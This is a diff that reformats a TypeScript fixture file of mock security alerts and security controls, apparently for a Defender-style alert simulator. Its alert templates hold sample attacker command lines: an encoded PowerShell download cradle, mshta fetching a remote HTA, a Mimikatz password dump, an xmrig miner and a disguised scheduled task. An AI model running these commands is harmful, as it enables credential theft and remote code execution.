@@ -5,16 +5,7 @@
  */
 
 export type EvidenceKind =
-  | 'device'
-  | 'user'
-  | 'process'
-  | 'file'
-  | 'ip'
-  | 'url'
-  | 'mailbox'
-  | 'message'
-  | 'cloudApp'
-  | 'registryKey';
+  'device' | 'user' | 'process' | 'file' | 'ip' | 'url' | 'mailbox' | 'message' | 'cloudApp' | 'registryKey';
 
 export interface AlertTemplate {
   title: string;
@@ -102,7 +93,11 @@ export const SERVICES: ServiceCatalog[] = [
         mitreTechniques: ['T1564.001'],
         severities: ['low', 'medium'],
         evidence: ['device', 'process', 'file', 'user'],
-        process: { fileName: 'wscript.exe', filePath: 'C:\\Windows\\System32', commandLine: '"wscript.exe" /b /e:jscript "C:\\Users\\Public\\Libraries\\~tmp01.dat"' },
+        process: {
+          fileName: 'wscript.exe',
+          filePath: 'C:\\Windows\\System32',
+          commandLine: '"wscript.exe" /b /e:jscript "C:\\Users\\Public\\Libraries\\~tmp01.dat"',
+        },
       },
       {
         title: 'Suspicious PowerShell command line',
@@ -112,7 +107,12 @@ export const SERVICES: ServiceCatalog[] = [
         mitreTechniques: ['T1059.001', 'T1105'],
         severities: ['medium', 'high'],
         evidence: ['device', 'process', 'user', 'ip', 'url'],
-        process: { fileName: 'powershell.exe', filePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0', commandLine: 'powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA' },
+        process: {
+          fileName: 'powershell.exe',
+          filePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
+          commandLine:
+            'powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
+        },
         url: 'http://cdn-update-check.info/stage2.ps1',
       },
       {
@@ -125,7 +125,11 @@ export const SERVICES: ServiceCatalog[] = [
         evidence: ['device', 'file', 'process', 'user'],
         detectionSources: ['antivirus'],
         threatFamilyName: 'Mimikatz',
-        process: { fileName: 'mimikatz.exe', filePath: 'C:\\Users\\Public\\Downloads', commandLine: 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit' },
+        process: {
+          fileName: 'mimikatz.exe',
+          filePath: 'C:\\Users\\Public\\Downloads',
+          commandLine: 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
+        },
       },
       {
         title: 'Ransomware behavior detected in the file system',
@@ -135,7 +139,11 @@ export const SERVICES: ServiceCatalog[] = [
         mitreTechniques: ['T1486', 'T1490'],
         severities: ['high'],
         evidence: ['device', 'process', 'file', 'user'],
-        process: { fileName: 'svchost32.exe', filePath: 'C:\\ProgramData\\Intel', commandLine: 'svchost32.exe -path \\\\fileserver01\\shares -nolog' },
+        process: {
+          fileName: 'svchost32.exe',
+          filePath: 'C:\\ProgramData\\Intel',
+          commandLine: 'svchost32.exe -path \\\\fileserver01\\shares -nolog',
+        },
       },
       {
         title: 'Suspicious scheduled task',
@@ -145,7 +153,12 @@ export const SERVICES: ServiceCatalog[] = [
         mitreTechniques: ['T1053.005'],
         severities: ['low', 'medium'],
         evidence: ['device', 'process', 'registryKey', 'user'],
-        process: { fileName: 'schtasks.exe', filePath: 'C:\\Windows\\System32', commandLine: 'schtasks.exe /Create /SC ONLOGON /TN "OneDrive Sync Helper" /TR "C:\\Users\\Public\\sync.vbs" /F' },
+        process: {
+          fileName: 'schtasks.exe',
+          filePath: 'C:\\Windows\\System32',
+          commandLine:
+            'schtasks.exe /Create /SC ONLOGON /TN "OneDrive Sync Helper" /TR "C:\\Users\\Public\\sync.vbs" /F',
+        },
       },
     ],
   },
@@ -250,7 +263,8 @@ export const SERVICES: ServiceCatalog[] = [
       },
       {
         title: 'Email reported by user as malware or phish',
-        description: 'A user reported an email as phishing or malware from Outlook. The message is queued for analysis.',
+        description:
+          'A user reported an email as phishing or malware from Outlook. The message is queued for analysis.',
         category: 'InitialAccess',
         mitreTechniques: ['T1566'],
         severities: ['informational', 'low'],
@@ -282,7 +296,11 @@ export const SERVICES: ServiceCatalog[] = [
         mitreTechniques: ['T1496'],
         severities: ['high'],
         evidence: ['device', 'process', 'file'],
-        process: { fileName: 'xmrig', filePath: '/tmp/.X11-unix', commandLine: './xmrig -o pool.supportxmr.com:443 --tls -k --donate-level 1' },
+        process: {
+          fileName: 'xmrig',
+          filePath: '/tmp/.X11-unix',
+          commandLine: './xmrig -o pool.supportxmr.com:443 --tls -k --donate-level 1',
+        },
       },
     ],
   },
@@ -363,7 +381,11 @@ export const SERVICES: ServiceCatalog[] = [
         mitreTechniques: ['T1566.002', 'T1204.002'],
         severities: ['high', 'medium'],
         evidence: ['user', 'url', 'device', 'process'],
-        process: { fileName: 'mshta.exe', filePath: 'C:\\Windows\\System32', commandLine: 'mshta.exe https://cdn-update-check.info/a.hta' },
+        process: {
+          fileName: 'mshta.exe',
+          filePath: 'C:\\Windows\\System32',
+          commandLine: 'mshta.exe https://cdn-update-check.info/a.hta',
+        },
         url: 'https://cdn-update-check.info/a.hta',
       },
     ],
@@ -386,9 +408,21 @@ export const LEGACY_PROVIDERS: LegacyProvider[] = [
     subProvider: null,
     weight: 20,
     templates: [
-      { title: 'Anonymous IP address', category: 'AnonymousLogin', description: 'Sign-in from an anonymous IP address (e.g. Tor browser, anonymizer VPNs).' },
-      { title: 'Impossible travel to atypical locations', category: 'ImpossibleTravel', description: 'Sign-in from an atypical location based on the user\u2019s recent sign-ins.' },
-      { title: 'Unfamiliar sign-in properties', category: 'UnfamiliarLocation', description: 'Sign-in with properties not seen recently for the user.' },
+      {
+        title: 'Anonymous IP address',
+        category: 'AnonymousLogin',
+        description: 'Sign-in from an anonymous IP address (e.g. Tor browser, anonymizer VPNs).',
+      },
+      {
+        title: 'Impossible travel to atypical locations',
+        category: 'ImpossibleTravel',
+        description: 'Sign-in from an atypical location based on the user\u2019s recent sign-ins.',
+      },
+      {
+        title: 'Unfamiliar sign-in properties',
+        category: 'UnfamiliarLocation',
+        description: 'Sign-in with properties not seen recently for the user.',
+      },
     ],
   },
   {
@@ -397,8 +431,16 @@ export const LEGACY_PROVIDERS: LegacyProvider[] = [
     subProvider: 'Detection',
     weight: 12,
     templates: [
-      { title: 'Suspicious process executed', category: 'SuspiciousProcess', description: 'Machine logs indicate that a suspicious process was running on the machine.' },
-      { title: 'Successful RDP brute force attack', category: 'RDP Brute Force', description: 'Several remote desktop login attempts were detected, followed by a successful one.' },
+      {
+        title: 'Suspicious process executed',
+        category: 'SuspiciousProcess',
+        description: 'Machine logs indicate that a suspicious process was running on the machine.',
+      },
+      {
+        title: 'Successful RDP brute force attack',
+        category: 'RDP Brute Force',
+        description: 'Several remote desktop login attempts were detected, followed by a successful one.',
+      },
     ],
   },
   {
@@ -407,8 +449,16 @@ export const LEGACY_PROVIDERS: LegacyProvider[] = [
     subProvider: null,
     weight: 10,
     templates: [
-      { title: 'Impossible travel activity', category: 'ALERT_MANAGEMENT_DISCOVERY', description: 'The user was active from two distant countries within a short time.' },
-      { title: 'Activity from infrequent country', category: 'ALERT_MANAGEMENT_DISCOVERY', description: 'Activity from a country not recently or never visited by any user in the organization.' },
+      {
+        title: 'Impossible travel activity',
+        category: 'ALERT_MANAGEMENT_DISCOVERY',
+        description: 'The user was active from two distant countries within a short time.',
+      },
+      {
+        title: 'Activity from infrequent country',
+        category: 'ALERT_MANAGEMENT_DISCOVERY',
+        description: 'Activity from a country not recently or never visited by any user in the organization.',
+      },
     ],
   },
   {
@@ -417,8 +467,16 @@ export const LEGACY_PROVIDERS: LegacyProvider[] = [
     subProvider: null,
     weight: 8,
     templates: [
-      { title: 'Suspected brute force attack (LDAP)', category: 'CredentialAccess', description: 'Many authentication failures using simple LDAP bind were followed by a success.' },
-      { title: 'Suspected identity theft (pass-the-ticket)', category: 'LateralMovement', description: 'A Kerberos ticket of a user was used on a computer the user did not log on to.' },
+      {
+        title: 'Suspected brute force attack (LDAP)',
+        category: 'CredentialAccess',
+        description: 'Many authentication failures using simple LDAP bind were followed by a success.',
+      },
+      {
+        title: 'Suspected identity theft (pass-the-ticket)',
+        category: 'LateralMovement',
+        description: 'A Kerberos ticket of a user was used on a computer the user did not log on to.',
+      },
     ],
   },
   {
@@ -427,9 +485,21 @@ export const LEGACY_PROVIDERS: LegacyProvider[] = [
     subProvider: 'MicrosoftDefenderATP',
     weight: 30,
     templates: [
-      { title: 'Suspicious PowerShell command line', category: 'Execution', description: 'A suspicious PowerShell activity was observed on the machine.' },
-      { title: 'Credential theft activity', category: 'CredentialAccess', description: 'A process accessed the memory of lsass.exe, a common credential theft technique.' },
-      { title: 'Ransomware behavior detected in the file system', category: 'Ransomware', description: 'A process encrypted many files in a short time.' },
+      {
+        title: 'Suspicious PowerShell command line',
+        category: 'Execution',
+        description: 'A suspicious PowerShell activity was observed on the machine.',
+      },
+      {
+        title: 'Credential theft activity',
+        category: 'CredentialAccess',
+        description: 'A process accessed the memory of lsass.exe, a common credential theft technique.',
+      },
+      {
+        title: 'Ransomware behavior detected in the file system',
+        category: 'Ransomware',
+        description: 'A process encrypted many files in a short time.',
+      },
     ],
   },
   {
@@ -438,8 +508,16 @@ export const LEGACY_PROVIDERS: LegacyProvider[] = [
     subProvider: 'Analytics',
     weight: 8,
     templates: [
-      { title: 'Brute force attack against Azure Portal', category: 'CredentialAccess', description: 'Many failed Azure Portal sign-ins from the same IP address for the same account.' },
-      { title: 'Rare application consent', category: 'Persistence', description: 'A user consented to an application that few users in the tenant use.' },
+      {
+        title: 'Brute force attack against Azure Portal',
+        category: 'CredentialAccess',
+        description: 'Many failed Azure Portal sign-ins from the same IP address for the same account.',
+      },
+      {
+        title: 'Rare application consent',
+        category: 'Persistence',
+        description: 'A user consented to an application that few users in the tenant use.',
+      },
     ],
   },
   {
@@ -448,9 +526,21 @@ export const LEGACY_PROVIDERS: LegacyProvider[] = [
     subProvider: 'ThreatManagement',
     weight: 12,
     templates: [
-      { title: 'Email messages containing malware removed after delivery', category: 'ThreatManagement', description: 'Messages containing malware were delivered and later removed by zero-hour auto purge.' },
-      { title: 'Creation of forwarding/redirect rule', category: 'ThreatManagement', description: 'A mailbox rule forwards or redirects mail to an external address.' },
-      { title: 'User restricted from sending email', category: 'ThreatManagement', description: 'A user was restricted from sending email after sending outbound spam.' },
+      {
+        title: 'Email messages containing malware removed after delivery',
+        category: 'ThreatManagement',
+        description: 'Messages containing malware were delivered and later removed by zero-hour auto purge.',
+      },
+      {
+        title: 'Creation of forwarding/redirect rule',
+        category: 'ThreatManagement',
+        description: 'A mailbox rule forwards or redirects mail to an external address.',
+      },
+      {
+        title: 'User restricted from sending email',
+        category: 'ThreatManagement',
+        description: 'A user was restricted from sending email after sending outbound spam.',
+      },
     ],
   },
 ];
@@ -470,29 +560,219 @@ export interface ControlTemplate {
 }
 
 export const CONTROLS: ControlTemplate[] = [
-  { id: 'AdminMFAV2', title: 'Ensure multifactor authentication is enabled for all users in administrative roles', controlCategory: 'Identity', service: 'AzureAD', tier: 'Core', maxScore: 10, actionType: 'Config', userImpact: 'Low', implementationCost: 'Low', threats: ['Password Cracking', 'Account Breach', 'Elevation of Privilege'], remediation: '<p>Create a Conditional Access policy that requires MFA for the directory roles with administrative privileges.</p>' },
-  { id: 'MFARegistrationV2', title: 'Ensure all users can complete multifactor authentication', controlCategory: 'Identity', service: 'AzureAD', tier: 'Core', maxScore: 9, actionType: 'Config', userImpact: 'Moderate', implementationCost: 'Moderate', threats: ['Password Cracking', 'Account Breach'], remediation: '<p>Enable the MFA registration policy in Identity Protection and ask users to register.</p>' },
-  { id: 'BlockLegacyAuthentication', title: 'Enable Conditional Access policies to block legacy authentication', controlCategory: 'Identity', service: 'AzureAD', tier: 'Core', maxScore: 8, actionType: 'Config', userImpact: 'Moderate', implementationCost: 'Moderate', threats: ['Password Spray', 'Account Breach'], remediation: '<p>Create a Conditional Access policy that blocks client apps using legacy authentication protocols.</p>' },
-  { id: 'SigninRiskPolicy', title: 'Turn on sign-in risk policy', controlCategory: 'Identity', service: 'AzureAD', tier: 'Core', maxScore: 7, actionType: 'Config', userImpact: 'Moderate', implementationCost: 'Moderate', threats: ['Account Breach'], remediation: '<p>Require MFA for medium and high sign-in risk in a Conditional Access policy.</p>' },
-  { id: 'OneAdmin', title: 'Designate more than one global admin', controlCategory: 'Identity', service: 'AzureAD', tier: 'Core', maxScore: 1, actionType: 'Config', userImpact: 'Low', implementationCost: 'Low', threats: ['Account Breach'], remediation: '<p>Assign the Global Administrator role to a second, emergency access account.</p>' },
-  { id: 'SelfServicePasswordReset', title: 'Enable self-service password reset', controlCategory: 'Identity', service: 'AzureAD', tier: 'Defense in Depth', maxScore: 1, actionType: 'Config', userImpact: 'Moderate', implementationCost: 'Low', threats: ['Account Breach'], remediation: '<p>Enable self-service password reset for all users.</p>' },
-  { id: 'mdo_safelinksforemail', title: 'Create Safe Links policies for email messages', controlCategory: 'Apps', service: 'MDO', tier: 'Core', maxScore: 9, actionType: 'Config', userImpact: 'Low', implementationCost: 'Low', threats: ['Phishing', 'Malware'], remediation: '<p>Create a Safe Links policy that rewrites URLs and checks them at click time.</p>' },
-  { id: 'mdo_atpprotection', title: 'Turn on Microsoft Defender for Office 365 in SharePoint, OneDrive, and Microsoft Teams', controlCategory: 'Apps', service: 'MDO', tier: 'Core', maxScore: 8, actionType: 'Config', userImpact: 'Low', implementationCost: 'Low', threats: ['Malware'], remediation: '<p>Turn on Safe Attachments for SharePoint, OneDrive, and Microsoft Teams.</p>' },
-  { id: 'DLPEnabled', title: 'Create a DLP policy for sensitive information', controlCategory: 'Data', service: 'EXO', tier: 'Defense in Depth', maxScore: 5, actionType: 'Config', userImpact: 'Moderate', implementationCost: 'Moderate', threats: ['Data Exfiltration', 'Data Spillage'], remediation: '<p>Create a data loss prevention policy for the sensitive information types your organization handles.</p>' },
-  { id: 'scid_2010', title: 'Turn on real-time protection', controlCategory: 'Device', service: 'MDATP', tier: 'Core', maxScore: 10, actionType: 'Config', userImpact: 'Low', implementationCost: 'Low', threats: ['Malware', 'Ransomware'], remediation: '<p>Enable Microsoft Defender Antivirus real-time protection through Intune or Group Policy.</p>' },
-  { id: 'scid_2094', title: 'Block credential stealing from the Windows local security authority subsystem', controlCategory: 'Device', service: 'MDATP', tier: 'Core', maxScore: 9, actionType: 'Config', userImpact: 'Low', implementationCost: 'Low', threats: ['Credential theft'], remediation: '<p>Turn on the attack surface reduction rule that blocks credential stealing from lsass.exe.</p>' },
-  { id: 'mcas_infrequent_country', title: 'Review and resolve activity from infrequent countries', controlCategory: 'Apps', service: 'MCAS', tier: 'Advanced', maxScore: 3, actionType: 'Review', userImpact: 'Low', implementationCost: 'Low', threats: ['Account Breach'], remediation: '<p>Review the alerts of the Defender for Cloud Apps anomaly detection policy and resolve them.</p>' },
+  {
+    id: 'AdminMFAV2',
+    title: 'Ensure multifactor authentication is enabled for all users in administrative roles',
+    controlCategory: 'Identity',
+    service: 'AzureAD',
+    tier: 'Core',
+    maxScore: 10,
+    actionType: 'Config',
+    userImpact: 'Low',
+    implementationCost: 'Low',
+    threats: ['Password Cracking', 'Account Breach', 'Elevation of Privilege'],
+    remediation:
+      '<p>Create a Conditional Access policy that requires MFA for the directory roles with administrative privileges.</p>',
+  },
+  {
+    id: 'MFARegistrationV2',
+    title: 'Ensure all users can complete multifactor authentication',
+    controlCategory: 'Identity',
+    service: 'AzureAD',
+    tier: 'Core',
+    maxScore: 9,
+    actionType: 'Config',
+    userImpact: 'Moderate',
+    implementationCost: 'Moderate',
+    threats: ['Password Cracking', 'Account Breach'],
+    remediation: '<p>Enable the MFA registration policy in Identity Protection and ask users to register.</p>',
+  },
+  {
+    id: 'BlockLegacyAuthentication',
+    title: 'Enable Conditional Access policies to block legacy authentication',
+    controlCategory: 'Identity',
+    service: 'AzureAD',
+    tier: 'Core',
+    maxScore: 8,
+    actionType: 'Config',
+    userImpact: 'Moderate',
+    implementationCost: 'Moderate',
+    threats: ['Password Spray', 'Account Breach'],
+    remediation:
+      '<p>Create a Conditional Access policy that blocks client apps using legacy authentication protocols.</p>',
+  },
+  {
+    id: 'SigninRiskPolicy',
+    title: 'Turn on sign-in risk policy',
+    controlCategory: 'Identity',
+    service: 'AzureAD',
+    tier: 'Core',
+    maxScore: 7,
+    actionType: 'Config',
+    userImpact: 'Moderate',
+    implementationCost: 'Moderate',
+    threats: ['Account Breach'],
+    remediation: '<p>Require MFA for medium and high sign-in risk in a Conditional Access policy.</p>',
+  },
+  {
+    id: 'OneAdmin',
+    title: 'Designate more than one global admin',
+    controlCategory: 'Identity',
+    service: 'AzureAD',
+    tier: 'Core',
+    maxScore: 1,
+    actionType: 'Config',
+    userImpact: 'Low',
+    implementationCost: 'Low',
+    threats: ['Account Breach'],
+    remediation: '<p>Assign the Global Administrator role to a second, emergency access account.</p>',
+  },
+  {
+    id: 'SelfServicePasswordReset',
+    title: 'Enable self-service password reset',
+    controlCategory: 'Identity',
+    service: 'AzureAD',
+    tier: 'Defense in Depth',
+    maxScore: 1,
+    actionType: 'Config',
+    userImpact: 'Moderate',
+    implementationCost: 'Low',
+    threats: ['Account Breach'],
+    remediation: '<p>Enable self-service password reset for all users.</p>',
+  },
+  {
+    id: 'mdo_safelinksforemail',
+    title: 'Create Safe Links policies for email messages',
+    controlCategory: 'Apps',
+    service: 'MDO',
+    tier: 'Core',
+    maxScore: 9,
+    actionType: 'Config',
+    userImpact: 'Low',
+    implementationCost: 'Low',
+    threats: ['Phishing', 'Malware'],
+    remediation: '<p>Create a Safe Links policy that rewrites URLs and checks them at click time.</p>',
+  },
+  {
+    id: 'mdo_atpprotection',
+    title: 'Turn on Microsoft Defender for Office 365 in SharePoint, OneDrive, and Microsoft Teams',
+    controlCategory: 'Apps',
+    service: 'MDO',
+    tier: 'Core',
+    maxScore: 8,
+    actionType: 'Config',
+    userImpact: 'Low',
+    implementationCost: 'Low',
+    threats: ['Malware'],
+    remediation: '<p>Turn on Safe Attachments for SharePoint, OneDrive, and Microsoft Teams.</p>',
+  },
+  {
+    id: 'DLPEnabled',
+    title: 'Create a DLP policy for sensitive information',
+    controlCategory: 'Data',
+    service: 'EXO',
+    tier: 'Defense in Depth',
+    maxScore: 5,
+    actionType: 'Config',
+    userImpact: 'Moderate',
+    implementationCost: 'Moderate',
+    threats: ['Data Exfiltration', 'Data Spillage'],
+    remediation:
+      '<p>Create a data loss prevention policy for the sensitive information types your organization handles.</p>',
+  },
+  {
+    id: 'scid_2010',
+    title: 'Turn on real-time protection',
+    controlCategory: 'Device',
+    service: 'MDATP',
+    tier: 'Core',
+    maxScore: 10,
+    actionType: 'Config',
+    userImpact: 'Low',
+    implementationCost: 'Low',
+    threats: ['Malware', 'Ransomware'],
+    remediation: '<p>Enable Microsoft Defender Antivirus real-time protection through Intune or Group Policy.</p>',
+  },
+  {
+    id: 'scid_2094',
+    title: 'Block credential stealing from the Windows local security authority subsystem',
+    controlCategory: 'Device',
+    service: 'MDATP',
+    tier: 'Core',
+    maxScore: 9,
+    actionType: 'Config',
+    userImpact: 'Low',
+    implementationCost: 'Low',
+    threats: ['Credential theft'],
+    remediation: '<p>Turn on the attack surface reduction rule that blocks credential stealing from lsass.exe.</p>',
+  },
+  {
+    id: 'mcas_infrequent_country',
+    title: 'Review and resolve activity from infrequent countries',
+    controlCategory: 'Apps',
+    service: 'MCAS',
+    tier: 'Advanced',
+    maxScore: 3,
+    actionType: 'Review',
+    userImpact: 'Low',
+    implementationCost: 'Low',
+    threats: ['Account Breach'],
+    remediation: '<p>Review the alerts of the Defender for Cloud Apps anomaly detection policy and resolve them.</p>',
+  },
 ];
 
 export const FIRST_NAMES = [
-  'Adele', 'Alex', 'Allan', 'Christie', 'Debra', 'Diego', 'Emily', 'Grady', 'Henrietta', 'Isaiah', 'Johanna',
-  'Joni', 'Lee', 'Lidia', 'Lynne', 'Megan', 'Miriam', 'Nestor', 'Patti', 'Pradeep',
+  'Adele',
+  'Alex',
+  'Allan',
+  'Christie',
+  'Debra',
+  'Diego',
+  'Emily',
+  'Grady',
+  'Henrietta',
+  'Isaiah',
+  'Johanna',
+  'Joni',
+  'Lee',
+  'Lidia',
+  'Lynne',
+  'Megan',
+  'Miriam',
+  'Nestor',
+  'Patti',
+  'Pradeep',
 ];
 export const LAST_NAMES = [
-  'Vance', 'Wilber', 'Deyoung', 'Cline', 'Berg', 'Siciliani', 'Braun', 'Archie', 'Mueller', 'Langer', 'Lauer',
-  'Sherman', 'Gu', 'Holloway', 'Robbins', 'Bowen', 'Hooper', 'Wilke', 'Fernandez', 'Gupta',
+  'Vance',
+  'Wilber',
+  'Deyoung',
+  'Cline',
+  'Berg',
+  'Siciliani',
+  'Braun',
+  'Archie',
+  'Mueller',
+  'Langer',
+  'Lauer',
+  'Sherman',
+  'Gu',
+  'Holloway',
+  'Robbins',
+  'Bowen',
+  'Hooper',
+  'Wilke',
+  'Fernandez',
+  'Gupta',
 ];
-export const DOMAINS = ['contoso.com', 'fabrikam.com', 'woodgrovebank.com', 'adatum.com', 'northwindtraders.com', 'tailspintoys.com'];
+export const DOMAINS = [
+  'contoso.com',
+  'fabrikam.com',
+  'woodgrovebank.com',
+  'adatum.com',
+  'northwindtraders.com',
+  'tailspintoys.com',
+];
 export const COUNTRIES: { code: string; city: string; country: string; lat: number; lon: number }[] = [
   { code: 'US', city: 'Seattle', country: 'United States', lat: 47.6, lon: -122.3 },
   { code: 'NL', city: 'Amsterdam', country: 'Netherlands', lat: 52.37, lon: 4.89 },
@@ -517,4 +797,11 @@ export const INCIDENT_NAMES = [
   'Execution incident involving one user',
   'Mass download by a single user involving one user',
 ];
-export const INCIDENT_DETERMINATIONS = ['multiStagedAttack', 'malware', 'phishing', 'compromisedAccount', 'securityTesting', 'notMalicious'];
+export const INCIDENT_DETERMINATIONS = [
+  'multiStagedAttack',
+  'malware',
+  'phishing',
+  'compromisedAccount',
+  'securityTesting',
+  'notMalicious',
+];
